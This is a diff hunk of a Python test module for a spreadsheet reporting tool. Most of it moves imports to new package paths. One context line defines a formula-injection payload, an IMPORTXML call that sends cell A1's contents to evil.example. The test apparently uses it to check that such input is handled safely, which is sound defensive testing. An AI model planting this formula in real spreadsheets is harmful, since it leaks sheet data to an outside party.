@@ -18,15 +18,15 @@ import pytest
 from tests.conftest import AS_OF, action_row, incident_row, tables, write_workbook
 
 from pmsheets import config as config_module
-from pmsheets.cli import main
-from pmsheets.emulator import DEFAULT_EMAIL, SheetsEmulator
+from pmsheets.cli.main import main
+from sheets_emulator import DEFAULT_EMAIL, SheetsEmulator
 from pmsheets.errors import ConfigError
-from pmsheets.mail import Outgoing, build_message, tls_context
-from pmsheets.policy import Policy
+from pmsheets.outputs.mail import Outgoing, build_message, tls_context
+from pmsheets.core.policy import Policy
 from pmsheets.register.google_session import EndpointSession
-from pmsheets.report_render import render
-from pmsheets.reports import find_overdue, overdue_report
-from pmsheets.schema import FINDINGS_HEADERS, parse
+from pmsheets.outputs.report_render import render
+from pmsheets.core.overdue import find_overdue, overdue_report
+from pmsheets.core.schema import FINDINGS_HEADERS, parse
 
 FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")'
 INCIDENT_COLUMN = FINDINGS_HEADERS.index("Incident")
